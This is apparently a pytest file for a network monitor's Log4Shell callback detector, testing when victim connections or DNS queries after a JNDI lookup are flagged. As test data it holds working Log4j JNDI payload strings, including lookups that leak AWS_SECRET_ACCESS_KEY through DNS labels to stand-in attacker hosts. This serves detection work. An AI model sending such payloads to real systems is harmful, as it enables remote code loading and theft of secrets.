"""LOG4J_CALLBACK: the victim contacts the host and port named in the lookup it received."""

from __future__ import annotations

from kubectl_netmon.capture.l7.events import DnsMessage, HttpRequest
from tests.detect.harness import SECOND, Hooks

ATTACKER, VICTIM, OTHER = "203.0.113.7", "10.0.0.5", "10.0.0.9"


def attempt(hooks: Hooks, lookup: str, victim: str = VICTIM) -> None:
    conn = hooks.conn(ATTACKER, 0, victim, 8080)
    hooks.event(conn, HttpRequest(ts_ns=hooks.tick(), method="GET", uri="/", version="1.1",
                                  headers=[("user-agent", lookup)]))
    hooks.end(conn)


def connect(hooks: Hooks, orig: str, resp: str, port: int, proto: str = "tcp") -> None:
    hooks.end(hooks.conn(orig, 0, resp, port, proto))


def dns(hooks: Hooks, name: str, answers: list[str] = ()) -> None:
    conn = hooks.conn(VICTIM, 0, "10.96.0.10", 53, "udp")
    hooks.event(conn, DnsMessage(ts_ns=hooks.tick(), trans_id=1, is_response=False, query=name))
    if answers:
        hooks.event(conn, DnsMessage(ts_ns=hooks.tick(), trans_id=1, is_response=True,
                                     query=name, answers=list(answers)))
    hooks.end(conn)


def test_connection_to_the_named_host_and_port_is_a_callback():
    hooks = Hooks()
    attempt(hooks, "${jndi:ldap://203.0.113.7:1389/a}")
    connect(hooks, VICTIM, ATTACKER, 1389)
    assert hooks.notes() == ["LOG4J_ATTEMPT_HEADER", "LOG4J_CALLBACK"]


def test_lookup_without_port_calls_back_on_the_schemes_default_port():
    hooks = Hooks()
    attempt(hooks, "${jndi:ldap://203.0.113.7/a}")
    connect(hooks, VICTIM, ATTACKER, 389)
    assert hooks.notes()[-1] == "LOG4J_CALLBACK"


def test_connection_to_another_port_is_not_a_callback():
    hooks = Hooks()
    attempt(hooks, "${jndi:ldap://203.0.113.7:1389/a}")
    connect(hooks, VICTIM, ATTACKER, 443)
    assert hooks.notes() == ["LOG4J_ATTEMPT_HEADER"]


def test_same_connection_from_a_host_that_got_no_lookup_is_not_a_callback():
    hooks = Hooks()
    attempt(hooks, "${jndi:ldap://203.0.113.7:1389/a}")
    connect(hooks, OTHER, ATTACKER, 1389)
    assert hooks.notes() == ["LOG4J_ATTEMPT_HEADER"]


def test_connection_before_the_lookup_is_not_a_callback():
    hooks = Hooks()
    early = hooks.conn(VICTIM, 0, ATTACKER, 1389)
    attempt(hooks, "${jndi:ldap://203.0.113.7:1389/a}")
    hooks.end(early)
    assert hooks.notes() == ["LOG4J_ATTEMPT_HEADER"]


def test_connection_after_the_callback_window_is_not_a_callback():
    hooks = Hooks()
    attempt(hooks, "${jndi:ldap://203.0.113.7:1389/a}")
    hooks.now += 2 * 3600 * SECOND
    connect(hooks, VICTIM, ATTACKER, 1389)
    assert hooks.notes() == ["LOG4J_ATTEMPT_HEADER"]


def test_dns_query_for_the_named_host_is_a_callback():
    hooks = Hooks()
    attempt(hooks, "${jndi:ldap://cb.evil.example:1389/a}")
    dns(hooks, "CB.evil.example.")
    assert hooks.notes() == ["LOG4J_ATTEMPT_HEADER", "LOG4J_CALLBACK"]
    assert hooks.notices[1].extra["dns.query"] == "CB.evil.example."


def test_connection_to_the_address_dns_gave_for_the_named_host_is_a_callback():
    hooks = Hooks()
    attempt(hooks, "${jndi:rmi://cb.evil.example/a}")
    dns(hooks, "cb.evil.example", ["198.51.100.20"])
    connect(hooks, VICTIM, "198.51.100.20", 1099)
    assert hooks.notes() == ["LOG4J_ATTEMPT_HEADER", "LOG4J_CALLBACK", "LOG4J_CALLBACK"]
    assert hooks.notices[2].resp_h == "198.51.100.20"


def test_dns_query_carrying_an_exfiltrated_label_is_a_callback():
    hooks = Hooks()
    attempt(hooks, "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.x.evil.example/a}")
    dns(hooks, "wJalrXUtnFEMI.x.evil.example")
    assert hooks.notes() == ["LOG4J_ATTEMPT_HEADER", "LOG4J_CALLBACK"]


def test_dns_scheme_query_sent_to_the_named_server_is_a_callback_with_the_leaked_label():
    hooks = Hooks()
    attempt(hooks, "${jndi:dns://198.51.100.53/${env:AWS_SECRET_ACCESS_KEY}}")
    conn = hooks.conn(VICTIM, 0, "198.51.100.53", 53, "udp")
    hooks.event(conn, DnsMessage(ts_ns=hooks.tick(), trans_id=7, is_response=False,
                                 query="wJalrXUtnFEMI"))
    hooks.end(conn)
    assert hooks.notes() == ["LOG4J_ATTEMPT_HEADER", "LOG4J_CALLBACK"]
    assert hooks.notices[1].extra["dns.query"] == "wJalrXUtnFEMI"


def test_unrelated_dns_query_is_not_a_callback():
    hooks = Hooks()
    attempt(hooks, "${jndi:ldap://cb.evil.example:1389/a}")
    dns(hooks, "kubernetes.default.svc.cluster.local")
    assert hooks.notes() == ["LOG4J_ATTEMPT_HEADER"]


def test_repeated_callbacks_to_one_server_are_suppressed_and_counted():
    hooks = Hooks()
    attempt(hooks, "${jndi:ldap://203.0.113.7:1389/a}")
    for _ in range(3):
        connect(hooks, VICTIM, ATTACKER, 1389)
    assert hooks.notes() == ["LOG4J_ATTEMPT_HEADER", "LOG4J_CALLBACK"]
    assert hooks.notices[1].extra["suppressed"] == 2


def test_a_callback_seen_at_its_connections_end_names_the_connections_query():
    hooks = Hooks()
    attempt(hooks, "${jndi:dns://198.51.100.53/${env:AWS_SECRET_ACCESS_KEY}}")
    conn = hooks.conn(VICTIM, 0, "198.51.100.53", 53, "udp")
    hooks.event(conn, DnsMessage(ts_ns=hooks.tick(), trans_id=7, is_response=True,
                                 query="wJalrXUtnFEMI"))  # the query itself was not captured
    assert hooks.notes() == ["LOG4J_ATTEMPT_HEADER"]
    hooks.end(conn)
    assert hooks.notes() == ["LOG4J_ATTEMPT_HEADER", "LOG4J_CALLBACK"]
    assert hooks.notices[1].extra["dns.query"] == "wJalrXUtnFEMI"
